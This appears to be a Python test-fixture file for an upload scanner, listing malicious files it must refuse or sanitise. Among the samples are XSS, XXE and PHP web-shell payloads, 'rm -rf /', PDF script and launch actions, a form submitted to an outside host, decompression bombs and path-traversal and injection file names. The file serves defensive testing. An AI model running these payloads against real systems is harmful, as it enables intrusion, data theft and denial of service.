"""Files that mean harm (reliability.md T13): what they are, and why they are refused or what is left of them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from applications.scanning import MAX_BYTES, MAX_PAGES, MAX_SIDE
from tests.factories.scans import acting, exif, ofd, on_the_page, paper, pdf, picture, saved, script, zipped

EVIL = b"<script>alert(document.cookie)</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def huge_png(width: int, height: int) -> bytes:
    """A picture of any size in a few bytes of header."""
    head = picture("PNG", (1, 1))
    body = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + head[24:29]
    return head[:12] + body + zlib.crc32(body).to_bytes(4, "big") + head[33:]


def png_of_zeros() -> bytes:
    """49 million pixels that unpack from 200 KB, with a lie in the middle."""
    head = huge_png(7000, 7000)[:33]
    body = b"IDAT" + zlib.compress(b"\0" * 1_000_000)[:-9]
    return head + struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))


def bomb(times: int = 2) -> bytes:
    """A PDF whose page unpacks into more than a machine has."""
    packed = b"".join([zlib.compress(b"\0" * (60 * 1024 * 1024), 9)])
    names = [Name.FlateDecode]
    for _ in range(times - 1):
        packed, names = zlib.compress(packed, 9), [Name.FlateDecode, *names]
    made = paper()
    made.pages[0].Contents = Stream(made, packed)
    made.pages[0].Contents.Filter = names[0] if times == 1 else Array(names)
    return saved(made, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def picture_bomb() -> bytes:
    made = paper(photo=picture())
    made.pages[0].Resources.XObject.Scan.Width = 50_000
    made.pages[0].Resources.XObject.Scan.Height = 50_000
    return saved(made)


def locked() -> bytes:
    return saved(paper(), encryption=pikepdf.Encryption(owner="a", user="b", R=6))


def owner_locked() -> bytes:
    return saved(paper(), encryption=pikepdf.Encryption(owner="a", user="", R=6))


def with_attachment() -> bytes:
    made = paper()
    made.attachments["发票.exe"] = b"MZ"
    return saved(made)


def hidden_script() -> bytes:
    """A script in a compressed object stream, under an escaped name."""
    made = paper()
    made.Root.OpenAction = made.make_indirect(script())
    return saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def escaped_script() -> bytes:
    return saved_raw(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>")


def saved_raw(root: bytes) -> bytes:
    """A PDF written by hand."""
    objects = [root, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]
    out = b"%PDF-1.7\n"
    for number, inside in enumerate(objects, 1):
        out += b"%d 0 obj%s endobj\n" % (number, inside)
    return out + b"trailer<</Root 1 0 R/Size 4>>\n%%EOF\n"


def loop() -> bytes:
    """Pages that are their own parents."""
    return saved_raw(b"<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 1>>")


def nested_zip() -> bytes:
    inner = zipped({"a.xml": b"0" * 1_000_000})
    return ofd({"Doc_0/inner.xml": inner})


def zip_bomb() -> bytes:
    return ofd({f"Doc_0/Res/{n}.xml": b"\0" * (20 * 1024 * 1024) for n in range(8)})


def lying_zip() -> bytes:
    """A part that says it holds ten bytes and holds a million."""
    data = bytearray(ofd({"Doc_0/a.xml": b"\0" * 1_000_000}))
    at = 0
    while (at := data.find(struct.pack("<I", 1_000_000), at)) >= 0:
        data[at : at + 4] = struct.pack("<I", 10)
    return bytes(data)


def docm() -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # what it is: (name it comes under, content, a word of the reason given)
    "nothing at all": ("a.jpg", bytes, "空"),
    "16 MB": ("a.pdf", lambda: b"%PDF-" + b"0" * MAX_BYTES, "15 MB"),
    "html": ("a.html", lambda: b"<!DOCTYPE html><html>" + EVIL, "只收"),
    "html named jpg": ("证照.jpg", lambda: b"<html>" + EVIL, "只收"),
    "svg with script": ("a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "只收"),
    "svg named png": ("a.png", lambda: b'<?xml version="1.0"?><svg>' + EVIL + b"</svg>", "只收"),
    "xml with entities": ("a.xml", lambda: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "只收"),
    "windows program": ("a.jpg.exe", lambda: b"MZ\x90\x00" + b"\x00" * 500, "只收"),
    "linux program": ("扫描件.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 500, "只收"),
    "shell script": ("a.jpg", lambda: b"#!/bin/sh\nrm -rf /\n", "只收"),
    "php": ("a.php.jpg", lambda: b"<?php system($_GET['c']); ?>", "只收"),
    "php behind a picture's first bytes": ("a.jpg", lambda: b"\xff\xd8\xff\xe0<?php system(1); ?>", "损坏"),
    "javascript behind a gif's first bytes": ("a.gif", lambda: b"GIF89a/*" + b"\x00" * 50 + b"*/=1;alert(1)", "只收"),
    "gif": ("a.gif", lambda: picture("GIF"), "只收"),
    "bmp": ("a.bmp", lambda: picture("BMP"), "只收"),
    "webp": ("a.webp", lambda: picture("WEBP"), "只收"),
    "icon": ("a.ico", lambda: picture("ICO"), "只收"),
    "eps, which is a program": ("a.eps", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nshowpage", "只收"),
    "postscript": ("a.pdf", lambda: b"%!PS-Adobe-3.0\n(%PDF-1.4) = quit", "只收"),
    "zip": ("a.zip", lambda: zipped({"a.txt": "a"}), "只收"),
    "rar": ("a.rar", lambda: b"Rar!\x1a\x07\x00" + b"\x00" * 100, "只收"),
    "java archive": ("a.pdf", lambda: zipped({"META-INF/MANIFEST.MF": "Main-Class: A"}), "只收"),
    "docx with macros": ("申请书.docm", docm, "只收"),
    "docx": ("申请书.docx", lambda: zipped({"word/document.xml": "<w/>"}), "只收"),
    "old word": ("申请书.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "只收"),
    "rich text": ("a.rtf", lambda: rb"{\rtf1{\object\objdata 0105}}", "只收"),
    "shortcut": ("a.lnk", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 100, "只收"),
    "film": ("a.mp4", lambda: b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 100, "只收"),
    "the virus everybody tests with": ("eicar.com", lambda: EICAR, "只收"),
    "bytes of nothing": ("a.png", lambda: bytes(range(256)) * 8, "只收"),
    "cut jpg": ("a.jpg", lambda: picture(size=(2000, 2000))[:9000], "损坏"),
    "cut png": ("a.png", lambda: picture("PNG", (800, 800))[:700], "损坏"),
    "cut tiff": ("a.tif", lambda: picture("TIFF")[:900], "损坏"),
    "only the head of a heic": ("a.heic", lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "损坏"),
    "png of 50,000 × 50,000": ("a.png", lambda: huge_png(50_000, 50_000), "尺寸过大"),
    "png of 4 billion wide": ("a.png", lambda: huge_png(2**31 - 1, 1), "尺寸过大"),
    "png wider than any scan": ("a.png", lambda: picture("PNG", (MAX_SIDE + 1, 1)), "尺寸过大"),
    "png whose pixels lie": ("a.png", png_of_zeros, "损坏"),
    "script on opening": ("a.pdf", lambda: acting(OpenAction=script()), "脚本"),
    "script among the names": (
        "a.pdf",
        lambda: acting(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))),
        "脚本",
    ),
    "script on closing": ("a.pdf", lambda: acting(AA=Dictionary(WC=script())), "脚本"),
    "script under an escaped name": ("a.pdf", escaped_script, "脚本"),
    "script in a packed object": ("a.pdf", hidden_script, "脚本"),
    "script on a button": ("a.pdf", lambda: on_the_page(Subtype=Name.Widget, AA=Dictionary(U=script())), "脚本"),
    "script after the next": (
        "a.pdf",
        lambda: acting(OpenAction=Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([script()]))),
        "脚本",
    ),
    "starting a program": ("a.pdf", lambda: acting(OpenAction=Dictionary(S=Name.Launch, F="cmd.exe")), "脚本"),
    "sending the form away": (
        "a.pdf",
        lambda: on_the_page(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F="http://a.example")),
        "脚本",
    ),
    "taking data in": ("a.pdf", lambda: acting(OpenAction=Dictionary(S=Name.ImportData, F="a.fdf")), "脚本"),
    "opening another file": ("a.pdf", lambda: acting(OpenAction=Dictionary(S=Name.GoToR, F="//a/b")), "脚本"),
    "a file inside": ("a.pdf", with_attachment, "附件"),
    "a file on the page": ("a.pdf", lambda: on_the_page(Subtype=Name.FileAttachment, FS=Dictionary()), "附件"),
    "a film on the page": ("a.pdf", lambda: on_the_page(Subtype=Name.RichMedia), "可执行"),
    "a form of XFA": ("a.pdf", lambda: acting(AcroForm=Dictionary(XFA=String("<xdp/>"))), "脚本"),
    "10,000 pages": ("a.pdf", lambda: saved(paper(MAX_PAGES + 1)), "300 页"),
    "a password": ("a.pdf", locked, "密码"),
    "the owner's password": ("a.pdf", owner_locked, "密码"),
    "cut pdf": ("a.pdf", lambda: pdf()[:-40], "不完整"),
    "only the first and the last line": ("a.pdf", lambda: b"%PDF-1.7\nhello\n%%EOF\n", "损坏"),
    "pages in a circle": ("a.pdf", loop, "损坏"),
    "60 MB in one stream": ("a.pdf", lambda: bomb(1), "解压后过大"),
    "packed twice": ("a.pdf", lambda: bomb(2), "解压后过大"),
    "a picture of 50,000 × 50,000 in a pdf": ("a.pdf", picture_bomb, "尺寸过大"),
    "ofd with a path that leads out": ("a.ofd", lambda: ofd({"../../etc/cron.xml": b"x"}), "外部"),
    "ofd with a program": ("a.ofd", lambda: ofd({"Doc_0/a.exe": b"MZ"}), "外部"),
    "ofd with a program named xml": ("a.ofd", lambda: ofd({"Doc_0/a.xml": b"MZ\x90"}), "外部"),
    "ofd with an attachment": ("a.ofd", lambda: ofd({"Doc_0/Attachs.xml": "<ofd:Attachment/>"}), "附件"),
    "ofd with entities": ("a.ofd", lambda: ofd(root='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'), "外部"),
    "ofd with an archive in it": ("a.ofd", nested_zip, "外部"),
    "ofd of 160 MB": ("a.ofd", zip_bomb, "解压后过大"),
    "ofd that lies about its size": ("a.ofd", lying_zip, "OFD"),
    "zip that says it is an ofd": ("a.ofd", lambda: zipped({"OFD.xml": "<html/>"}), "只收"),
    "cut ofd": ("a.ofd", lambda: ofd()[:-60], "损坏"),
}  # fmt: skip


def jpeg_with(tail: bytes) -> bytes:
    return picture() + tail


def zip_behind_a_jpeg() -> bytes:
    out = io.BytesIO(picture())
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("evil.html", EVIL)
    return out.getvalue()


def text_in_a_png() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    notes = PngInfo()
    notes.add_text("Comment", EVIL.decode())
    out = io.BytesIO()
    Image.new("RGB", (90, 90), "white").save(out, "PNG", pnginfo=notes)
    return out.getvalue()


def pdf_with_notes() -> bytes:
    """Author, XMP, a link, and a photograph that tells where it was taken."""
    made = paper(photo=picture(exif=exif()))
    made.docinfo["/Author"] = String("GPS-MARK 李明")
    made.Root.Metadata = Stream(made, b"<x:xmpmeta>GPS-MARK</x:xmpmeta>")
    made.Root.OpenAction = Dictionary(S=Name.URI, URI=String("http://GPS-MARK.example"))
    return saved(made)


CLEANED: dict[str, tuple[str, Callable[[], bytes], bytes]] = {
    # what it is: (name it comes under, content, what must be gone)
    "jpg with html behind": ("a.jpg", lambda: jpeg_with(EVIL), b"<script"),
    "jpg with a program behind": ("a.jpg", lambda: jpeg_with(b"MZ\x90 This program GPS-MARK"), b"GPS-MARK"),
    "jpg that is a zip too": ("a.jpg", zip_behind_a_jpeg, b"evil.html"),
    "jpg with a comment that runs": ("a.jpg", lambda: picture(comment=EVIL), b"<script"),
    "png with a text that runs": ("a.png", text_in_a_png, b"<script"),
    "photograph with its place": ("a.jpg", lambda: picture(exif=exif()), b"GPS-MARK"),
    "pdf with html behind": ("a.pdf", lambda: pdf() + EVIL + b"\n%%EOF\n", b"<script"),
    "pdf with author, link and place": ("a.pdf", pdf_with_notes, b"GPS-MARK"),
    "ofd with html behind": ("a.ofd", lambda: ofd(comment=EVIL), b"<script"),
}

NAMES = {
    "../../etc/passwd": "passwd.jpg",
    "..\\..\\windows\\system32\\a.jpg": "a.jpg",
    "证照.jpg.exe": "证照.jpg",
    "证照.php": "证照.jpg",
    "证照\x00.jpg": "证照.jpg",
    "证照\u202egpj.exe": "证照gpj.jpg",
    "a\r\nSet-Cookie: b=c.jpg": "aSet-Cookie: b=c.jpg",
    "<script>alert(1)</script>.jpg": "script>.jpg",
    "长" * 255 + ".jpg": "长" * 96 + ".jpg",
    "": "未命名.jpg",
    ".htaccess": "htaccess.jpg",
    "...": "未命名.jpg",
}
